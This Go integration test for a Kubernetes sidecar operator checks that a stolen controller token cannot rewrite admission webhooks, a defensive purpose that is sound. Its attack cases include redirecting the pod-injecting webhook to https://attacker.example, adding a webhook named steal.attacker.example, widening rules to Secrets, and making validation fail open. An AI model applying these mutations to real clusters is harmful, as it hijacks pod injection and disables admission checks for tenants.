package integration

import (
	"context"
	"errors"
	"testing"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/sidecar-operator/sidecar-operator/internal/webhookconfig"
)

// TestAttackStolenTokenWritesWebhooksOfItsOwn: the install ships the
// configurations without webhooks and the controllers add theirs, so their
// identity may write webhooks that were not there. The grant policy lets
// it write only the operator's own, as it makes them for the install: a
// stolen token cannot send one elsewhere, widen what it matches, let the
// validating ones fail open, leave out a namespace, or drop one. It may
// exclude more namespaces from injection (--exclude-namespace) and change
// what only tunes a call. Every write is a
// dry run, as the impersonated controllers' identity.
func TestAttackStolenTokenWritesWebhooksOfItsOwn(t *testing.T) {
	ctx := context.Background()
	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
	installGrantPolicy(t, k8s, op)
	target := webhookconfig.Target{ServiceNamespace: operatorNamespace, ServiceName: webhookconfig.ServiceName, TimeoutSeconds: 7}
	m, v := ownWebhooks(t, op, target, admissionv1.Ignore, "monitoring")
	for _, obj := range []client.Object{m, v} {
		if err := op.Update(ctx, obj, client.DryRunAll); err != nil {
			t.Errorf("the controllers write their own webhooks (%T), for the install, more namespaces excluded from injection: %v", obj, err)
		}
	}

	attacks := map[string]func(m *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object{
		"the injecting webhook sent to another Service": func(m *admissionv1.MutatingWebhookConfiguration, _ *admissionv1.ValidatingWebhookConfiguration) client.Object {
			m.Webhooks[0].ClientConfig.Service.Namespace = "attacker"
			return m
		},
		"the injecting webhook sent to a URL": func(m *admissionv1.MutatingWebhookConfiguration, _ *admissionv1.ValidatingWebhookConfiguration) client.Object {
			m.Webhooks[0].ClientConfig = admissionv1.WebhookClientConfig{URL: new("https://attacker.example/mutate-pods")}
			return m
		},
		"the injecting webhook sent Secrets": func(m *admissionv1.MutatingWebhookConfiguration, _ *admissionv1.ValidatingWebhookConfiguration) client.Object {
			m.Webhooks[0].Rules[0].Resources = []string{"pods", "secrets"}
			return m
		},
		"the injecting webhook sent kube-system": func(m *admissionv1.MutatingWebhookConfiguration, _ *admissionv1.ValidatingWebhookConfiguration) client.Object {
			m.Webhooks[0].NamespaceSelector.MatchExpressions[0].Values = []string{operatorNamespace}
			return m
		},
		"a second injecting webhook": func(m *admissionv1.MutatingWebhookConfiguration, _ *admissionv1.ValidatingWebhookConfiguration) client.Object {
			extra := m.Webhooks[0].DeepCopy()
			extra.Name = "steal.attacker.example"
			m.Webhooks = append(m.Webhooks, *extra)
			return m
		},
		"pod validation leaving out a namespace": func(_ *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object {
			v.Webhooks[1].NamespaceSelector.MatchExpressions[0].Values = append(v.Webhooks[1].NamespaceSelector.MatchExpressions[0].Values, "tenant")
			return v
		},
		"pod validation failing open": func(_ *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object {
			v.Webhooks[1].FailurePolicy = ptr.To(admissionv1.Ignore)
			return v
		},
		"pod validation dropped": func(_ *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object {
			v.Webhooks = v.Webhooks[:1]
			return v
		},
		"pod validation narrowed by a condition of the attacker's": func(_ *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object {
			v.Webhooks[1].MatchConditions = append(v.Webhooks[1].MatchConditions, admissionv1.MatchCondition{Name: "never", Expression: "false"})
			return v
		},
		"pod validation narrowed by an object selector": func(_ *admissionv1.MutatingWebhookConfiguration, v *admissionv1.ValidatingWebhookConfiguration) client.Object {
			v.Webhooks[1].ObjectSelector.MatchLabels = map[string]string{"validated": "yes"}
			return v
		},
	}
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			m, v := ownWebhooks(t, op, target, admissionv1.Ignore)
			if err := op.Update(ctx, attack(m, v), client.DryRunAll); err == nil {
				t.Errorf("HOLE: the controllers' identity wrote %s", name)
			} else {
				t.Logf("held: %v", err)
			}
		})
	}
}

// ownWebhooks are the configurations as read by c, with the operator's own
// webhooks for the install at target, injection under policy and leaving
// out the excluded namespaces beside the operator's.
func ownWebhooks(t *testing.T, c client.Client, target webhookconfig.Target, policy admissionv1.FailurePolicyType, excluded ...string) (
	*admissionv1.MutatingWebhookConfiguration, *admissionv1.ValidatingWebhookConfiguration,
) {
	t.Helper()
	ctx := context.Background()
	var m admissionv1.MutatingWebhookConfiguration
	var v admissionv1.ValidatingWebhookConfiguration
	if err := errors.Join(c.Get(ctx, client.ObjectKey{Name: webhookConfigName}, &m), c.Get(ctx, client.ObjectKey{Name: webhookConfigName}, &v)); err != nil {
		t.Fatal(err)
	}
	m.Webhooks = webhookconfig.Mutating(webhookConfigName, target, []byte("ca"), policy, webhookconfig.AllNamespaces,
		append([]string{operatorNamespace}, excluded...)...).Webhooks
	v.Webhooks = webhookconfig.Validating(webhookConfigName, target, []byte("ca"), operatorNamespace).Webhooks
	return &m, &v
}
